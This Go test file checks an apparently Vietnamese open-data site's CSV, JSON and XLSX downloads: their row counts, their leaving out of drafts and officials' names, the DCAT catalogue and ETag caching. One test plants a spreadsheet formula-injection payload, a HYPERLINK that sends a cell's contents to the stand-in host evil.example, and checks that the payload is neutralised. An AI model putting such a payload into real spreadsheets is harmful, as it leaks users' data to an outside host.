package web_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/gofiber/fiber/v2"
	"github.com/xuri/excelize/v2"

	"hoptac/internal/domain"
	"hoptac/internal/kind"
	"hoptac/internal/store"
	"hoptac/internal/testenv"
)

// downloads holds one kind's three files, parsed.
type downloads struct {
	csv  [][]string // header first
	json []map[string]any
	xlsx [][]string // header first
}

func fetchDownloads(t *testing.T, app *fiber.App, plural string) downloads {
	t.Helper()
	var d downloads
	c := get(t, app, "/du-lieu-mo/"+plural+".csv")
	if c.status != http.StatusOK || !strings.HasPrefix(c.body, "\uFEFF") || !strings.HasPrefix(c.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("GET %s.csv = %d %q; want 200 text/csv starting with a BOM", plural, c.status, c.header.Get("Content-Type"))
	}
	var err error
	if d.csv, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(c.body, "\uFEFF"))).ReadAll(); err != nil {
		t.Fatalf("%s.csv: %v", plural, err)
	}
	j := get(t, app, "/du-lieu-mo/"+plural+".json")
	if err := json.Unmarshal([]byte(j.body), &d.json); j.status != http.StatusOK || err != nil {
		t.Fatalf("GET %s.json = %d: %v", plural, j.status, err)
	}
	x := get(t, app, "/du-lieu-mo/"+plural+".xlsx")
	f, err := excelize.OpenReader(bytes.NewReader([]byte(x.body)))
	if x.status != http.StatusOK || err != nil {
		t.Fatalf("GET %s.xlsx = %d: %v", plural, x.status, err)
	}
	defer f.Close()
	if d.xlsx, err = f.GetRows(plural); err != nil {
		t.Fatalf("%s.xlsx: %v", plural, err)
	}
	return d
}

// TestDownloadsHoldEveryPublicEntry: on the seeded demo data, for every
// kind, the API's total, the rows of the CSV, JSON and XLSX files and
// PostgreSQL's count of public entries are one number.
func TestDownloadsHoldEveryPublicEntry(t *testing.T) {
	t.Parallel()
	st, engine := indexedDemo(t)
	app := newApp(t, st, withEngine(engine))
	for _, k := range kind.All {
		t.Run(k.Type().Plural, func(t *testing.T) {
			var pg int
			if err := st.DB().GetContext(ctx, &pg, "SELECT count(*) FROM public_"+string(k.Table())); err != nil {
				t.Fatal(err)
			}
			var list apiList
			getJSON(t, app, "/api/v1/"+k.Type().Plural+"?expired=1&per_page=1", &list)
			d := fetchDownloads(t, app, k.Type().Plural)
			counts := []int{list.Total, len(d.csv) - 1, len(d.json), len(d.xlsx) - 1}
			for _, n := range counts {
				if n != pg {
					t.Errorf("%s: API total, CSV, JSON, XLSX rows = %v; want each %d (PostgreSQL's public entries)", k.Type().Plural, counts, pg)
					break
				}
			}
			if pg == 0 {
				t.Errorf("the demo data has no public %s", k.Type().Plural)
			}
			if len(d.csv) > 0 && strings.Join(d.csv[0], ",") != strings.Join(d.xlsx[0], ",") {
				t.Errorf("CSV and XLSX headers differ:\n%v\n%v", d.csv[0], d.xlsx[0])
			}
		})
	}
}

// TestDownloadsLeaveOutWhatIsNotPublic: drafts, archived entries and
// entries whose parent is not public are in no file, and no file names an
// official.
func TestDownloadsLeaveOutWhatIsNotPublic(t *testing.T) {
	t.Parallel()
	app, w := publicApp(t)
	hidden := map[string][]int64{
		"jobs": {w.draftJob.ID, w.archivedJob.ID}, "companies": {w.draftCompany.ID}, "schools": {w.draftSchool.ID},
		"programs": {w.draftProgram.ID}, "projects": {w.archivedProject.ID},
	}
	for _, k := range kind.All {
		plural := k.Type().Plural
		d := fetchDownloads(t, app, plural)
		ids := map[string]bool{}
		for _, row := range d.csv[1:] {
			ids[row[0]] = true
		}
		for _, row := range d.xlsx[1:] {
			ids["x"+row[0]] = true
		}
		for _, e := range d.json {
			ids["j"+strconv.FormatFloat(e["id"].(float64), 'f', 0, 64)] = true
		}
		for _, id := range hidden[plural] {
			s := strconv.FormatInt(id, 10)
			if ids[s] || ids["x"+s] || ids["j"+s] {
				t.Errorf("%s: entry %d, not public, is in a download", plural, id)
			}
		}
		all := strings.Join(flatten(d.csv), "\n")
		for _, secret := range []string{"bí mật", "Ngành của trường nháp", "@hoptac.local", "official"} {
			if strings.Contains(all, secret) {
				t.Errorf("%s.csv contains %q", plural, secret)
			}
		}
	}
}

func flatten(rows [][]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r...)
	}
	return out
}

// TestDownloadsNeutraliseFormulas: a cell a spreadsheet would run is plain
// text in the CSV and the XLSX.
func TestDownloadsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	st, app := emptyApp(t)
	co := testenv.NewCompany(t, st, 1, "hcm", domain.StatusPublished)
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Nộp hồ sơ")`
	j := testenv.NewJob(t, st, co, testenv.JobSpec{Title: evil})
	j.Contact, j.Benefits = "@SUM(1+1)", "-2+3"
	must(t, st.Update(ctx, &j))

	d := fetchDownloads(t, app, "jobs")
	for name, rows := range map[string][][]string{"CSV": d.csv, "XLSX": d.xlsx} {
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s cell %q would run as a formula", name, cell)
			}
		}
		if !strings.Contains(strings.Join(rows[1], "|"), "'"+evil) {
			t.Errorf("%s row %v lacks the neutralised title '%s", name, rows[1], evil)
		}
	}
	if d.json[0]["title"] != evil {
		t.Errorf("JSON title = %q; JSON is not a spreadsheet, it keeps the text as it is", d.json[0]["title"])
	}
}

// TestOpenDataPage offers every dataset in three formats with its count,
// the licence, the data dictionary and the machine interfaces; the
// catalogue names every distribution, and each answers.
func TestOpenDataPage(t *testing.T) {
	t.Parallel()
	app, _ := publicApp(t)
	page := getOK(t, app, "/du-lieu-mo")
	want := []string{"CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/", "/api/openapi.json", "/du-lieu-mo/dcat.jsonld", "Từ điển dữ liệu", "wage_min", "Lương tối thiểu"}
	for _, k := range kind.All {
		p := k.Type().Plural
		want = append(want, "/du-lieu-mo/"+p+".csv", "/du-lieu-mo/"+p+".json", "/du-lieu-mo/"+p+".xlsx", "/feeds/"+p+".atom", "/api/v1/"+p)
	}
	for _, s := range want {
		if !strings.Contains(page.body, s) {
			t.Errorf("/du-lieu-mo lacks %q", s)
		}
	}
	if home := get(t, app, "/"); !strings.Contains(home.body, `href="/du-lieu-mo"`) {
		t.Errorf("the footer has no link to /du-lieu-mo")
	}

	r := get(t, app, "/du-lieu-mo/dcat.jsonld")
	var cat struct {
		Type     string `json:"@type"`
		Datasets []struct {
			ID    string `json:"dct:identifier"`
			Dists []struct {
				Download *struct {
					ID string `json:"@id"`
				} `json:"dcat:downloadURL"`
				Access struct {
					ID string `json:"@id"`
				} `json:"dcat:accessURL"`
			} `json:"dcat:distribution"`
			Licence struct {
				ID string `json:"@id"`
			} `json:"dct:license"`
		} `json:"dcat:dataset"`
	}
	if err := json.Unmarshal([]byte(r.body), &cat); err != nil || r.status != http.StatusOK || cat.Type != "dcat:Catalog" {
		t.Fatalf("GET dcat.jsonld = %d %v; want a dcat:Catalog", r.status, err)
	}
	if len(cat.Datasets) != len(kind.All) {
		t.Errorf("catalogue has %d datasets, want %d", len(cat.Datasets), len(kind.All))
	}
	for _, ds := range cat.Datasets {
		if len(ds.Dists) != 4 || ds.Licence.ID == "" {
			t.Errorf("dataset %s: %d distributions, licence %q; want CSV, JSON, XLSX and the API, CC BY", ds.ID, len(ds.Dists), ds.Licence.ID)
		}
		for _, dist := range ds.Dists {
			u := dist.Access.ID
			if dist.Download != nil {
				u = dist.Download.ID
			}
			path := strings.TrimPrefix(u, "http://example.com")
			if got := get(t, app, path); got.status != http.StatusOK {
				t.Errorf("%s (dataset %s) = %d", u, ds.ID, got.status)
			}
		}
	}
}

// TestDownloadsRevalidate: an unchanged file answers 304 to If-None-Match.
func TestDownloadsRevalidate(t *testing.T) {
	t.Parallel()
	app, _ := publicApp(t)
	first := get(t, app, "/du-lieu-mo/schools.csv")
	tag := first.header.Get("ETag")
	req := httptest.NewRequest(http.MethodGet, "/du-lieu-mo/schools.csv", nil)
	req.Header.Set("If-None-Match", tag)
	resp, err := app.Test(req, -1)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if tag == "" || resp.StatusCode != http.StatusNotModified {
		t.Errorf("GET schools.csv with If-None-Match %q = %d, want 304", tag, resp.StatusCode)
	}
	for _, path := range []string{"/du-lieu-mo/nothing.csv", "/du-lieu-mo/jobs.pdf", "/du-lieu-mo/jobs"} {
		if r := get(t, app, path); r.status != http.StatusNotFound {
			t.Errorf("GET %s = %d, want 404", path, r.status)
		}
	}
}

// TestOpenDataNamesNoOfficial: an official who wrote an entry is in no
// download and no API answer, by name or email.
func TestOpenDataNamesNoOfficial(t *testing.T) {
	t.Parallel()
	st, app := emptyApp(t)
	dept := "hcm-sonv"
	official := store.User{Email: "can.bo.bidanh@sonv.example.vn", Name: "Trần Thị Bí Danh", Role: "editor", City: testenv.Ptr("hcm"), DepartmentCode: &dept, PasswordHash: "x"}
	must(t, st.CreateUser(ctx, &official))
	as := store.WithActor(ctx, store.Actor{UserID: official.ID, DepartmentCode: dept})
	co := testenv.NewCompany(t, st, 1, "hcm", domain.StatusPublished)
	j := testenv.NewJob(t, st, co, testenv.JobSpec{Title: "Kế toán tổng hợp"})
	j.Description = "Sửa bởi cán bộ"
	must(t, st.Update(as, &j))

	bodies := []string{}
	for _, f := range []string{"csv", "json"} {
		bodies = append(bodies, get(t, app, "/du-lieu-mo/jobs."+f).body, get(t, app, "/du-lieu-mo/companies."+f).body)
	}
	d := fetchDownloads(t, app, "jobs")
	bodies = append(bodies, strings.Join(flatten(d.xlsx), "|"),
		get(t, app, "/api/v1/jobs").body, get(t, app, "/api/v1/jobs/"+itoa(j.ID)).body, get(t, app, "/du-lieu-mo").body)
	if !strings.Contains(bodies[0], "Sửa bởi cán bộ") {
		t.Fatalf("the jobs CSV lacks the official's edit")
	}
	for i, b := range bodies {
		for _, secret := range []string{official.Name, official.Email, "bidanh"} {
			if strings.Contains(strings.ToLower(b), strings.ToLower(secret)) {
				t.Errorf("answer %d names the official (%q)", i, secret)
			}
		}
	}
}
